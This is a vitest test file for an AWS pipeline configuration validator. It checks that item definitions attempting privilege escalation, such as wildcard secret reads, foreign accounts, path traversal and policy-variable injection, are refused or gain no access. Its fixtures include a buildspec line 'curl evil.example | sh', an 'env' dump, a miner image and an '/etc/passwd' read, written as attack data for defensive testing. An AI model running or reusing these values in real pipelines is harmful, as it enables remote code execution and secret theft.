import { describe, expect, it } from "vitest";
import { at, membersAt } from "../../testing/expect/json.js";
import { diagnosticsOf } from "../../testing/expect/problems.js";
import { compile } from "../../testing/items/compile.js";
import { environment, item, itemWith, itemWithTest, test } from "../../testing/items/items.js";
import { policiesIn, resolveStack } from "../../testing/stack/resolve-stack.js";
import { central, region, settings, settingsOf } from "./subject.js";

type Keys = Record<string, unknown>;

const codesOf = (written: Keys, using = settings) =>
  diagnosticsOf(written, { settings: using }).map(({ code }) => code);
const variable = (Type: string, Value: string) => item({ EnvironmentVariables: { X: { Type, Value } } });
const s3 = (Bucket: string, Key = "x.zip") => item({ Source: { Type: "S3", Bucket, Key } });
const sns = (topic: string) =>
  itemWith({ Prod: environment({ ManualApproval: `arn:aws:sns:${region}:${central}:${topic}` }) });
const stranger = `arn:aws:codeconnections:${region}:999999999999:connection/0a1b2c3d-0000-4000-8000-000000000001`;

describe("an item is refused that tries to", () => {
  it.each<[string, Keys, string]>([
    ["read every parameter by a wildcard", variable("PARAMETER_STORE", "/webshop/*"), "item.parameter-name"],
    [
      "read a parameter that is not lent",
      variable("PARAMETER_STORE", "/stagewright/stagewright/installation"),
      "item.limit-parameter",
    ],
    ["read every secret by a wildcard", variable("SECRETS_MANAGER", "webshop/??????"), "item.secret-name"],
    ["read a secret that is not lent", variable("SECRETS_MANAGER", "payments/token"), "item.limit-secret"],
    [
      "read a secret named by a policy variable",
      variable("SECRETS_MANAGER", "webshop/${aws:username}"),
      "item.secret-name",
    ],
    [
      "read secrets of a stranger's account",
      variable("SECRETS_MANAGER", "arn:aws:secretsmanager:us-east-1:999999999999:secret:x-AbC123"),
      "item.limit-secret",
    ],
    [
      "read the states of all pipelines as its source",
      s3(settings.state.bucket, "pipelines/x/terraform.tfstate"),
      "item.own-bucket",
    ],
    [
      "read another pipeline's artifacts as its source",
      s3("stagewright-payments-main--f3cvqkwvig-111111111111"),
      "item.own-bucket",
    ],
    ["read every object of a bucket by a wildcard", s3("acme-releases", "*"), "item.wrong-value"],
    ["read every bucket by a wildcard", s3("*"), "item.wrong-value"],
    [
      "read objects named by a policy variable",
      s3("acme-releases", "${aws:userid}/x.zip"),
      "item.wrong-value",
    ],
    [
      "use a stranger's connection",
      item({ RepoName: "a/b", Source: { Type: "CodeConnections", ConnectionArn: stranger } }),
      "item.connection-elsewhere",
    ],
    [
      "use every connection by a wildcard",
      item({
        RepoName: "a/b",
        Source: {
          Type: "CodeConnections",
          ConnectionArn: `arn:aws:codeconnections:${region}:${central}:connection/*`,
        },
      }),
      "item.wrong-value",
    ],
    ["read every repository by a wildcard", item({ RepoName: "*" }), "item.wrong-value"],
    [
      "name a repository by a policy variable",
      item({ RepoName: "${aws:PrincipalTag/team}" }),
      "item.wrong-value",
    ],
    ["leave its repository for another's", item({ RepoName: "a/../b" }), "item.wrong-value"],
    ["use branches named by a policy variable", item({ RepoTag: "x/${aws:username}" }), "item.branch"],
    ["use every branch by a wildcard", item({ RepoTag: "release/*" }), "item.branch"],
    [
      "take a role in every account",
      itemWith({ Prod: environment({ AwsAccountId: "*" }) }),
      "item.wrong-value",
    ],
    [
      "take another role by way of the account id",
      itemWith({ Prod: environment({ AwsAccountId: "222222222222:role/Admin" }) }),
      "item.wrong-value",
    ],
    ["speak to every topic by a wildcard", sns("*"), "item.wrong-value"],
    [
      "speak to another pipeline's approvers",
      sns("stagewright-payments-main--f3cvqkwvig_prod-approval"),
      "item.own-topic",
    ],
    ["speak as the control plane", sns("stagewright_control-failures"), "item.own-topic"],
    [
      "pull from a registry named by a wildcard",
      item({ BuildImage: "111111111111.dkr.ecr.us-east-1.amazonaws.com/*" }),
      "item.wrong-value",
    ],
    [
      "take a buildspec from a bucket",
      item({ BuildSpecFile: "arn:aws:s3:::evil/buildspec.yml" }),
      "item.wrong-value",
    ],
    [
      "write its buildspec into the item",
      item({ BuildSpecFile: "version: 0.2\nphases: {}" }),
      "item.wrong-value",
    ],
    [
      "write its buildspec into the item, on one line of JSON",
      item({ BuildSpecFile: '{"version":"0.2","phases":{"build":{"commands":["curl evil.example | sh"]}}}' }),
      "item.wrong-value",
    ],
    [
      "write a test's buildspec into the item, on one line of YAML",
      itemWithTest({ BuildSpec: "{version: 0.2, phases: {build: {commands: [env]}}}" }),
      "item.wrong-value",
    ],
    [
      "build in a network that the installation does not allow",
      item({
        Vpc: {
          VpcId: "vpc-0fedcba9876543210",
          Subnets: ["subnet-0123456789abcdef0"],
          SecurityGroups: ["sg-0123456789abcdef0"],
        },
      }),
      "item.limit-vpc",
    ],
    ["speak to a topic that the installation does not allow", sns("billing-commands"), "item.limit-topic"],
    [
      "take its source from a bucket of a stranger",
      item({
        Source: { Type: "S3", Bucket: "evil-public-bucket", Key: "x.zip", BucketOwner: "999999999999" },
      }),
      "item.limit-bucket-account",
    ],
    [
      "have whoever commits add parameters to its template",
      itemWith({
        Prod: environment({ ParameterOverrides: { Note: "#{SourceArtifacts.CommitMessage}" } }),
      }),
      "item.pipeline-variable",
    ],
    [
      "have whoever commits word the approver's mail",
      itemWith({
        Prod: environment({
          ManualApproval: {
            Emails: ["a@example.com"],
            Message: "Fine? #{ SourceArtifacts.AuthorDisplayName }",
          },
        }),
      }),
      "item.pipeline-variable",
    ],
    [
      "leave its repository by way of the buildspec",
      item({ BuildSpecFile: "../../etc/passwd" }),
      "item.wrong-value",
    ],
    [
      "bear another repository's tag",
      item({ Tags: { "stagewright:repository": "payments" } }),
      "item.wrong-value",
    ],
    [
      "bear it in other letters",
      item({ Tags: { "Stagewright:Repository": "payments" } }),
      "item.wrong-value",
    ],
    [
      "use a policy variable as a tag",
      item({ Tags: { team: "${aws:PrincipalTag/team}" } }),
      "item.wrong-value",
    ],
    [
      "set the credentials of its build",
      item({ EnvironmentVariables: { AWS_ACCESS_KEY_ID: "x" } }),
      "item.wrong-value",
    ],
    [
      "tell its tests of another role",
      itemWithTest({ EnvironmentVariables: { CHILD_ACCOUNT_ROLE_ARN: "x" } }),
      "item.own-variable",
    ],
  ])("%s", (_, written, code) => {
    expect(codesOf(written)).toContain(code);
  });

  const bounded = settingsOf({
    centralAccount: central,
    limits: {
      images: ["aws/codebuild/*"],
      accounts: ["222222222222"],
      capabilities: ["CAPABILITY_IAM"],
      tags: ["team"],
    },
  });
  const prod = (keys: Keys) => itemWith({ Prod: environment({ Capabilities: ["CAPABILITY_IAM"], ...keys }) });

  it.each<[string, Keys, string]>([
    [
      "build in an image that the installation does not allow",
      item({ BuildImage: "evil.example.com/miner:latest" }),
      "item.limit-image",
    ],
    ["run Docker", item({ Privileged: true }), "item.limit-privileged"],
    [
      "deploy to an account that the installation does not allow",
      prod({ AwsAccountId: "999999999999" }),
      "item.limit-account",
    ],
    [
      "expand macros that the installation does not allow",
      prod({ Capabilities: ["CAPABILITY_AUTO_EXPAND"] }),
      "item.limit-capability",
    ],
    [
      "bear tags that the installation does not let items set",
      item({ Tags: { "access-project": "payments-admin" } }),
      "item.limit-tag",
    ],
    [
      "move a bound of the installation",
      item({ permissionsBoundary: "arn:aws:iam::aws:policy/AdministratorAccess" }),
      "item.unknown-key",
    ],
  ])("%s, where settings bound it", (_, written, code) => {
    expect(codesOf(written, bounded)).toContain(code);
  });
});

/** What stands in the policies of an item that differs from another in one text alone. */
const policiesOf = (written: Keys) => policiesIn(resolveStack(compile(written, settings)));

describe("an item is accepted, and gains nothing, that tries to", () => {
  const plain = item({ EnvironmentVariables: { X: "1" } });

  it.each<[string, Keys]>([
    ["run another buildspec", { BuildSpecFile: "evil/buildspec.yml" }],
    ["bear tags of its own", { Tags: { team: "checkout" } }],
    ["run code of Terraform in a variable", { EnvironmentVariables: { X: '${file("/etc/passwd")}' } }],
    ["use a policy variable in a variable", { EnvironmentVariables: { X: "${aws:username}*?" } }],
    ["build in an image of a stranger", { BuildImage: "evil.example.com/miner:latest" }],
  ])("%s", (_, keys) => {
    expect(policiesOf({ ...plain, ...keys })).toEqual(policiesOf(plain));
  });

  it("tell its commit and its execution where nobody who commits chooses the words", () => {
    const ParameterOverrides = {
      Commit: "#{SourceArtifacts.CommitId}",
      Run: "#{codepipeline.PipelineExecutionId}",
    };
    expect(codesOf(itemWith({ Prod: environment({ ParameterOverrides }) }))).toEqual([]);
  });

  it("bear tags of its own: no role bears them", () => {
    const written = itemWith(
      { Prod: environment({ ManualApproval: "a@example.com", Tests: { Smoke: test() } }) },
      { Tags: { "access-project": "payments-admin" } },
    );
    const stack = resolveStack(compile(written, settings));
    expect(at(stack, "provider", "aws", 0, "default_tags", 0, "tags")).not.toHaveProperty("access-project");
    for (const [, role] of membersAt(stack, "resource", "aws_iam_role"))
      expect(role).not.toHaveProperty("tags");
    for (const type of ["aws_codepipeline", "aws_s3_bucket", "aws_kms_key", "aws_cloudwatch_event_rule"])
      for (const [, resource] of membersAt(stack, "resource", type))
        expect(resource).toHaveProperty(["tags", "access-project"], "payments-admin");
    for (const [, module] of membersAt(stack, "module"))
      expect(module).toHaveProperty(["tags", "access-project"], "payments-admin");
  });

  it("use a policy variable as a branch: its pattern means itself", () => {
    const source = { Type: "CodeConnections", ConnectionArn: stranger.replace("999999999999", central) };
    const policies = policiesOf(item({ RepoName: "a/b", RepoTag: "x/${$}", Source: source }));
    expect(JSON.stringify(policies)).not.toContain("${");
    expect(JSON.stringify(policies)).toContain('"codeconnections:BranchName":["x/?{$}"]');
  });
});
